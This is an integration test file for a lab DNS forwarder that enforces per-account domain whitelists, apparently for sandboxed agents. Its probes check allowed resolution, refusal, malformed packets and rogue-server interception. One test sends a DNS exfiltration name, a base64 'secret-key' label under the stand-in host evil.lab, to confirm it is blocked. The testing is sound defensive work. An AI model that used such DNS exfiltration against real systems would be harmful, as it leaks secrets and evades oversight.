import { beforeAll, describe, expect, it } from 'vitest';
import type { DecisionRecord } from '../../src/log/decisions.js';
import { LAB, canRunLab, netPolicy, useLab, type EnforcerHandle, type LabUser } from '../lab/index.js';

// The DNS forwarder in the lab, as the leashed accounts: what the agent gets back (the answer, the rcode) and what
// the lab's resolver logged receiving (every message, from whom, with which id: the probes send 0x1234, the
// forwarder a random id of its own).

const PROBE_ID = 0x1234;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

describe.skipIf(!canRunLab)('DNS forwarder in the lab', () => {
  const L = useLab('d');
  let white: LabUser; // whitelist: good.lab
  let other: LabUser; // whitelist: other.lab only
  let none: LabUser; // a subject without a policy
  let free: LabUser; // an account that is not a subject
  let enf: EnforcerHandle;
  const linesFor = (uid: number): DecisionRecord[] => enf.decisions().filter((d) => d.uid === uid);
  const since = (n: number) => L.get().dnsQueries().slice(n);

  beforeAll(async () => {
    const lab = L.get();
    white = await lab.createUser('leash-tdw');
    other = await lab.createUser('leash-tdo');
    none = await lab.createUser('leash-tdn');
    free = await lab.createUser('leash-tdf');
    enf = await lab.startEnforcer({
      peekTimeoutMs: 500,
      subjects: [
        { uid: white.uid, port: 18011, policy: netPolicy({ mode: 'whitelist', allow: ['good.lab'], deny: [] }) },
        { uid: other.uid, port: 18012, policy: netPolicy({ mode: 'whitelist', allow: ['other.lab'], deny: [] }) },
        { uid: none.uid, port: 18013, policy: null },
      ],
    });
  }, 60_000);

  it('an allowed name is answered over UDP and TCP, IPv4 and IPv6, through a query the forwarder built', async () => {
    const before = L.get().dnsQueries().length;
    const [udp, tcp, udp6] = await L.get().probe(white, [
      { kind: 'dnsudp', server: LAB.dnsV4, name: 'good.lab' },
      { kind: 'dnstcp', server: LAB.dnsV4, name: 'good.lab' },
      { kind: 'dnsudp', server: LAB.dnsV6, name: 'good.lab' },
    ]);
    expect(udp).toMatchObject({ ok: true, data: '198.18.1.10' });
    expect(tcp).toMatchObject({ ok: true, data: '198.18.1.10' });
    expect(udp6).toMatchObject({ ok: true, data: '198.18.1.10' });
    const got = since(before);
    expect(got).toHaveLength(3);
    for (const q of got) {
      expect(q).toMatchObject({ name: 'good.lab', qtype: 1 });
      expect(q.id).not.toBe(PROBE_ID); // re-built, not relayed
    }
    expect(linesFor(white.uid).slice(-3)).toEqual([
      expect.objectContaining({ action: 'allow', reason: 'allow_entry', subject: { dns: 'good.lab', qtype: 'A' } }),
      expect.objectContaining({ action: 'allow', subject: { dns: 'good.lab', qtype: 'A', transport: 'tcp' } }),
      expect.objectContaining({ action: 'allow', subject: { dns: 'good.lab', qtype: 'A' } }),
    ]);
  });

  it('a name outside the whitelist never reaches the resolver: REFUSED, over UDP and TCP', async () => {
    const before = L.get().dnsQueries().length;
    const exfil = 'c2VjcmV0LWtleQ.evil.lab';
    const [udp, tcp] = await L.get().probe(white, [
      { kind: 'dnsudp', server: LAB.dnsV4, name: exfil },
      { kind: 'dnstcp', server: LAB.dnsV4, name: exfil },
    ]);
    expect(udp).toMatchObject({ ok: false, code: 'REFUSED' });
    expect(tcp).toMatchObject({ ok: false, code: 'REFUSED' });
    await sleep(200);
    expect(since(before)).toEqual([]);
    expect(linesFor(white.uid).slice(-2)).toEqual([
      expect.objectContaining({
        action: 'block',
        reason: 'not_allowed',
        subject: { dns: exfil.toLowerCase(), qtype: 'A' },
      }),
      expect.objectContaining({ action: 'block', reason: 'not_allowed' }),
    ]);
  });

  it('non-DNS bytes to port 53 never reach the resolver (UDP and TCP)', async () => {
    const before = L.get().dnsQueries().length;
    const http = Buffer.from('GET / HTTP/1.1\r\nHost: good.lab\r\n\r\n').toString('hex');
    const [raw, short, tcp] = await L.get().probe(white, [
      { kind: 'rawudp53', server: LAB.dnsV4, hex: http },
      { kind: 'rawudp53', server: LAB.dnsV4, hex: '0102' },
      { kind: 'tcp', host: LAB.dnsV4, port: 53, send: '\u0000\u0005hello' },
    ]);
    expect(raw!.ok).toBe(true); // sent (to the forwarder), answered with an error or not at all
    expect(short).toMatchObject({ ok: true, data: '' }); // no header: dropped, no reply
    expect(tcp!.data).toBe(''); // closed without a reply
    await sleep(200);
    expect(since(before)).toEqual([]);
    const reasons = linesFor(white.uid)
      .slice(-3)
      .map((l) => l.reason);
    expect(reasons.every((r) => r === 'dns_malformed' || r === 'dns_unsupported')).toBe(true);
  });

  it("a query to some other server's port 53 is answered by the forwarder, never sent there", async () => {
    const before = L.get().dnsQueries().length;
    const [allowed, refused] = await L.get().probe(white, [
      { kind: 'dnsudp', server: LAB.rogueDnsV4, name: 'good.lab' },
      { kind: 'dnsudp', server: LAB.rogueDnsV4, name: 'exfil.evil.lab' },
    ]);
    expect(allowed).toMatchObject({ ok: true, data: '198.18.1.10' });
    expect(refused).toMatchObject({ ok: false, code: 'REFUSED' });
    await sleep(200);
    const got = since(before);
    expect(got.map((q) => [q.server, q.name])).toEqual([[LAB.dnsV4, 'good.lab']]);
  });

  it('two subjects with different policies get different answers for the same name; no policy gets REFUSED', async () => {
    const before = L.get().dnsQueries().length;
    const [w] = await L.get().probe(white, [{ kind: 'dnsudp', server: LAB.dnsV4, name: 'good.lab' }]);
    const [o, o2] = await L.get().probe(other, [
      { kind: 'dnsudp', server: LAB.dnsV4, name: 'good.lab' },
      { kind: 'dnsudp', server: LAB.dnsV4, name: 'other.lab' },
    ]);
    const [n] = await L.get().probe(none, [{ kind: 'dnsudp', server: LAB.dnsV4, name: 'good.lab' }]);
    expect(w).toMatchObject({ ok: true, data: '198.18.1.10' });
    expect(o).toMatchObject({ ok: false, code: 'REFUSED' });
    expect(o2).toMatchObject({ ok: true, data: '198.18.1.30' });
    expect(n).toMatchObject({ ok: false, code: 'REFUSED' });
    expect(linesFor(none.uid).at(-1)).toMatchObject({ action: 'block', reason: 'no_policy' });
    await sleep(200);
    expect(since(before).map((q) => q.name)).toEqual(['good.lab', 'other.lab']);
  });

  it('root and accounts that are not subjects resolve as before (straight to the resolver, their own query)', async () => {
    const before = L.get().dnsQueries().length;
    const [r, r2] = await L.get().probe(null, [
      { kind: 'dnsudp', server: LAB.dnsV4, name: 'evil.lab' },
      { kind: 'dnstcp', server: LAB.dnsV4, name: 'evil.lab' },
    ]);
    const [f, f2] = await L.get().probe(free, [
      { kind: 'dnsudp', server: LAB.dnsV4, name: 'evil.lab' },
      { kind: 'dns', name: 'good.lab' },
    ]);
    expect(r).toMatchObject({ ok: true, data: '198.18.1.20' });
    expect(r2).toMatchObject({ ok: true, data: '198.18.1.20' });
    expect(f).toMatchObject({ ok: true, data: '198.18.1.20' });
    expect(f2!.ok).toBe(true);
    const got = since(before);
    expect(got.filter((q) => q.name === 'evil.lab').map((q) => q.id)).toEqual([PROBE_ID, PROBE_ID, PROBE_ID]);
  });
});
